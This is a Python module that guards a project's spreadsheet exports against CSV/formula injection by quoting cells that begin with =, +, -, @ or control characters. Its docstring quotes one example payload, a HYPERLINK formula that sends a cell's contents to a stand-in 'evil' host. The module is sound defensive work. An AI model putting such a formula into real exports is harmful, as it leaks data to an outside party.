"""Cells for the spreadsheets we export (XLSX and CSV): data, never formulas.

A spreadsheet program reads a text cell that begins with `=`, `+`, `-` or `@` (and, after it strips them, a tab
or a carriage return) as a formula: an asset named `=HYPERLINK("http://evil/?"&A2, "open")` in an exported
register would run in the desk's spreadsheet. OWASP's CSV injection advice is to prefix such a cell with a single
quote, which the program takes as "this is text". Every XLSX and CSV writer in Opsdesk passes each cell through
`safe_cell` (or `safe_row`), so the rule lives here once.

What is left alone, on purpose:
- numbers, booleans, dates and times are written as themselves, so sums and sorting keep working: a negative
  number is a number, not text; only `str` values are ever changed;
- a text that is exactly a plain decimal number ("-5", "+3.25") is inert (a program reads it as that number,
  nothing else), so it is not prefixed;
- every other text, including a leading quote, is written unchanged.

We also treat a leading line feed and NUL as dangerous (OWASP ASVS 1.2.10 lists NUL; a line feed can hide a
formula on the cell's second line in some programs), which costs nothing for real data.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

DANGEROUS_LEADING = frozenset("=+-@\t\r\n\0")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")


def is_dangerous(text: str) -> bool:
    """True for a text a spreadsheet program would read as a formula (or the start of one)."""
    return bool(text) and text[0] in DANGEROUS_LEADING and _PLAIN_NUMBER.fullmatch(text) is None


def safe_cell(value: Any) -> Any:
    """The value as an export cell: a dangerous text gets a leading single quote; anything else is unchanged."""
    if isinstance(value, str) and is_dangerous(value):
        return QUOTE + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """`safe_cell` over a row, for `csv.writer.writerow` and openpyxl's `append`."""
    return [safe_cell(v) for v in values]


def unquote_cell(value: Any) -> Any:
    """The inverse for our own re-imports: `'=x` (as `safe_cell` wrote it) reads back as `=x`.

    Only a quote followed by a dangerous character is removed, so a round trip through export and import keeps
    the original text, and any other text that starts with a quote stays as written.
    """
    if isinstance(value, str) and len(value) > 1 and value[0] == QUOTE and is_dangerous(value[1:]):
        return value[1:]
    return value
